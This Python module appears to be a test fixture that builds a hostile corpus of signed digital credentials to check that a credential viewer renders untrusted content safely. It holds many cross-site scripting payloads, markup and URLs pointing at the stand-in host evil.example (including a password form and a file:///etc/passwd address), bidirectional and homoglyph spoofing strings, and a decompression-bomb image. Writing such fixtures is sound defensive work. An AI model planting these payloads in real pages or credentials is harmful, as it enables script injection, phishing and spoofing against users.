"""A hostile corpus: credentials whose content was made to break out of a page.

Each entry is a name and a JSON document, as an issuer with a seal could sign it: markup where a
text belongs, addresses that run scripts, images that are none, characters that hide or reorder, and
more of everything than anybody shows.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator, Mapping
from copy import deepcopy
from functools import cache
from io import BytesIO
from typing import Any

from microcred.cli.demo import example

Json = dict[str, Any]

MARKUP: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "end of the title": "</title><script>alert(1)</script>",
    "end of the style": "</style><script>alert(1)</script>",
    "end of a textarea": "</textarea></noscript></template><img src=x onerror=alert(1)>",
    "image": "<img src=x onerror=alert(1)>",
    "image from elsewhere": '<img src="https://evil.example/pixel.png">',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg in foreign content": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "form": '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style": "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "style attribute": '<p style="background:url(https://evil.example/x)">',
    "attribute": '" onmouseover="alert(1)" x="',
    "attribute in single quotes": "' onmouseover='alert(1)' x='",
    "attribute without quotes": "x onmouseover=alert(1) ",
    "backtick": "`onmouseover=alert(1)`",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "section": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "instruction": "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "escaped twice": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    "another file": '<a id="microcred-file" href="data:;base64,e30=">the file</a>',
    "another verdict": '</main><main><div class="verdict is-passed"><p class="word">Verified</p>',
    "a switch": '<input type="radio" name="language" id="l-0" checked>',
    "body": "</body></html><html><body onload=alert(1)>",
    "slash": "<img/src=x/onerror=alert(1)//",
    "no blank": "<details/open/ontoggle=alert(1)>",
}

CHARACTERS: Mapping[str, str] = {
    "override": "Soil \u202ecarbon\u202c level",
    "isolates left open": "\u2066\u2067\u2068\u202a\u202b" * 20 + "Soil",
    "marks of direction": "\u200e\u200f\u061c" * 50 + "Soil carbon",
    "zero width": "S\u200bo\u200bi\u2060l\ufeff c\u00adarbon",
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "separators": "Soil\u2028carbon\u2029level\x85",
    "piled marks": "S" + "\u0300\u0301\u0302\u0489" * 200 + "oil",
    "tags": "Soil" + "".join(map(chr, range(0xE0020, 0xE007F))),
    "no characters": "\ufffe\uffff\ufdd0 Soil \U0010ffff",
    "private use": "\ue000\uf8ff\U000f0000 Soil",
    "a long word": "Bodenkohlenstoff" * 1_000,
    "a long text": "soil carbon " * 2_000,
    "many lines": "soil\n" * 3_000,
    "only white space": "\u2003\u3000\u00a0Soil\u2003",
    "look-alikes": "Ехаmрlе Unіvеrѕіtу \N{FULLWIDTH LESS-THAN SIGN}script",
}

ADDRESSES: Mapping[str, str] = {
    "javascript": "javascript:alert(1)",
    "javascript in capitals": "JaVaScRiPt:alert(document.domain)",
    "javascript with a tab": "java\tscript:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "blob": "blob:https://evil.example/1",
    "file": "file:///etc/passwd",
    "a user name": "https://europa.eu@evil.example/",
    "a password": "https://europa.eu:443@evil.example/",
    "quotes": 'https://evil.example/"onmouseover=alert(1)//',
    "a host beyond ASCII": "https://еuropa.eu/",
    "back slashes": "https:\\\\evil.example",
    "a long address": "https://evil.example/" + "a" * 50_000,
    "an override": "https://evil.example/\u202egpj.exe",
}


@cache
def image(kind: str, size: tuple[int, int]) -> bytes:
    """An image file."""
    from PIL import Image

    out = BytesIO()
    Image.new("1" if size[0] > 5000 else "RGB", size).save(out, kind)
    return out.getvalue()


def images() -> Mapping[str, bytes]:
    """Images that are not shown, whatever they claim to be."""
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    )
    return {
        "svg image": svg,
        "html image": b"<html><script>alert(1)</script>",
        "gif image": image("GIF", (8, 8)),
        "cut image": image("PNG", (64, 64))[:60],
        "only a head": b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
        "jpeg with nothing in it": b"\xff\xd8\xff\xe0" + b"A" * 300,
        "bomb": image("PNG", (9000, 9000)),
        "empty image": b"",
    }


@cache
def _base() -> Json:
    return example().to_credential().to_json()


def base() -> Json:
    """The credential of the demo, without a page image, to be changed."""
    document = deepcopy(_base())
    document["displayParameter"]["individualDisplay"] = {
        "id": "urn:epass:individualDisplay:1",
        "type": "IndividualDisplay",
        "language": document["displayParameter"]["primaryLanguage"],
        "displayDetail": {
            "id": "urn:epass:displayDetail:1",
            "type": "DisplayDetail",
            "page": 1,
            "image": _media(image("PNG", (8, 8))),
        },
    }
    return document


def _media(content: bytes) -> Json:
    return {
        "id": "urn:epass:mediaObject:1",
        "type": "MediaObject",
        "content": base64.b64encode(content).decode(),
        "contentEncoding": {
            "type": "Concept",
            "id": "http://data.europa.eu/snb/encoding/6146cde7dd",
        },
        "contentType": {
            "type": "Concept",
            "id": "http://publications.europa.eu/resource/authority/file-type/PNG",
        },
    }


def everywhere(text: str) -> Json:
    """The credential with a text in every place that people read, names of members included."""
    document = base()
    subject, claim = document["credentialSubject"], document["credentialSubject"]["hasClaim"]
    subject["givenName"] = {"en": text}
    subject["familyName"] = {"en": text}
    subject["fullName"] = {"en": text}
    claim["title"] = {"en": text, "de": text}
    claim["description"] = {"en": text}
    document["displayParameter"]["title"] = {"en": text}
    document["issuer"]["legalName"] = {"en": text}
    document["id"] = f"urn:credential:{text}"
    document[text] = {text: text}
    return _replaced(document, text)


def _replaced(value: Any, text: str, depth: int = 0) -> Any:
    """Labels and names below, replaced as well."""
    if isinstance(value, list):
        return [_replaced(one, text, depth + 1) for one in value]
    if not isinstance(value, dict):
        return value
    told = {"prefLabel", "noteLiteral", "notation", "schemeName", "legalName", "title"}
    return {
        name: ({"en": text} if isinstance(one, dict) else text)
        if name in told and depth
        else _replaced(one, text, depth + 1)
        for name, one in value.items()
    }


def with_address(address: str) -> Json:
    """The credential with an address in every place for one."""
    document = base()
    page = {"id": "urn:epass:webResource:1", "type": "WebResource", "contentURL": address}
    document["issuer"]["homepage"] = page
    document["credentialSubject"]["hasClaim"]["homepage"] = page
    claim = document["credentialSubject"]["hasClaim"]
    claim["specifiedBy"]["homepage"] = [page, {**page, "id": address}]
    document["credentialSubject"]["contactPoint"] = {
        "type": "ContactPoint",
        "emailAddress": {"type": "Mailbox", "id": address},
    }
    for body in _listed(claim["awardedBy"]["awardingBody"]):
        body["homepage"] = page
    return document


def with_image(content: bytes) -> Json:
    """The credential with an image as its page and as the logo of its awarding body."""
    document = base()
    detail = document["displayParameter"]["individualDisplay"]["displayDetail"]
    detail["image"] = _media(content)
    for body in _listed(document["credentialSubject"]["hasClaim"]["awardedBy"]["awardingBody"]):
        body["logo"] = _media(content)
    document["issuer"]["logo"] = {**_media(content), "contentURL": "https://evil.example/logo.png"}
    return document


def _listed(value: Any) -> list[Json]:
    return value if isinstance(value, list) else [value]


def _forms() -> Iterator[tuple[str, Json]]:
    """More than anybody shows, and things of another form than they should have."""
    claim = base()["credentialSubject"]["hasClaim"]
    many = base()
    outcome = _listed(claim["specifiedBy"]["learningOutcome"])[0]
    many["credentialSubject"]["hasClaim"]["specifiedBy"]["learningOutcome"] = [
        {**outcome, "id": f"urn:epass:learningOutcome:{at}", "title": {"en": f"Outcome {at}"}}
        for at in range(10_000)
    ]
    yield "10,000 outcomes", many
    tongues = base()
    first = [chr(97 + at) + chr(97 + other) for at in range(26) for other in range(26)]
    tongues["credentialSubject"]["hasClaim"]["title"] = {tag: f"Soil {tag}" for tag in first}
    yield "676 languages", tongues
    deep: Any = "Soil"
    for _ in range(55):
        deep = {"note": [deep]}
    yield "110 levels", {**base(), "deep": deep}
    yield "10,000 members", {**base(), **{f"member {at}": at for at in range(10_000)}}
    odd = base()
    odd["credentialSubject"]["hasClaim"]["title"] = {'en" onclick="alert(1)': "Soil", "": "Soil"}
    odd["credentialSubject"]["hasClaim"]["description"] = {"<b>": ["Soil"], "zxx-<i>": "x"}
    yield "languages that are none", odd
    numbers = base()
    numbers["credentialSubject"]["hasClaim"]["title"] = 10**30
    numbers["issuer"], numbers["displayParameter"] = 7, [None, True, []]
    yield "numbers for texts", numbers
    pages = base()
    shown = pages["displayParameter"]["individualDisplay"]
    detail = shown["displayDetail"]
    shown["displayDetail"] = [{**detail, "page": at, "id": f"urn:x:{at}"} for at in range(2_000)]
    yield "2,000 page images", pages
    repeated = base()
    repeated["credentialSubject"]["hasClaim"] = [claim] * 300
    yield "300 claims", repeated


def corpus() -> Iterator[tuple[str, Json]]:
    """Every entry: its name and its document."""
    for name, text in {**MARKUP, **CHARACTERS}.items():
        yield name, everywhere(text)
    for name, address in ADDRESSES.items():
        yield f"address: {name}", with_address(address)
    for name, content in images().items():
        yield name, with_image(content)
    yield from _forms()


NAMES = tuple(name for name, _ in corpus())
